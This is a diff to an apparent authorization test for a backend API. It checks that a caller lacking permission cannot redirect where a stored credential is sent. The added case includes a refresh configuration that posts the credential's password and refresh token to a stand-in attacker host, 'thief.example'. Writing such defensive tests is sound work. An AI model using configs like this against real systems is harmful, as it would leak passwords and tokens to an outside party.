@@ -92,7 +92,19 @@ def test_only_who_may_set_a_credential_may_send_it_elsewhere(api: AdminAPI, worl
     other_target = {
         "live": {"targets": ["http://127.0.0.1:8"], "credential": backend["environments"]["live"]["credential"]}
     }
-    for environments in (elsewhere, other_target):
+    # A refresh may read the credential too: it is a place like the login.
+    refresh = {"url": "https://thief.example/", "body": {"p": "{credential.password}", "r": "{refresh_token}"}}
+    by_refresh = {
+        "live": {
+            "targets": ["http://127.0.0.1:9"],
+            "credential": {
+                "kind": "exchange",
+                "login": {"path": "/api/token/"},
+                "refresh": {"refresh_token": "/refresh", **refresh},
+            },
+        }
+    }
+    for environments in (by_refresh, elsewhere, other_target):
         few = caller("backends:write")
         assert refusal(few.patch(f"/backends/{backend['id']}", {"environments": environments})) == (
             403,
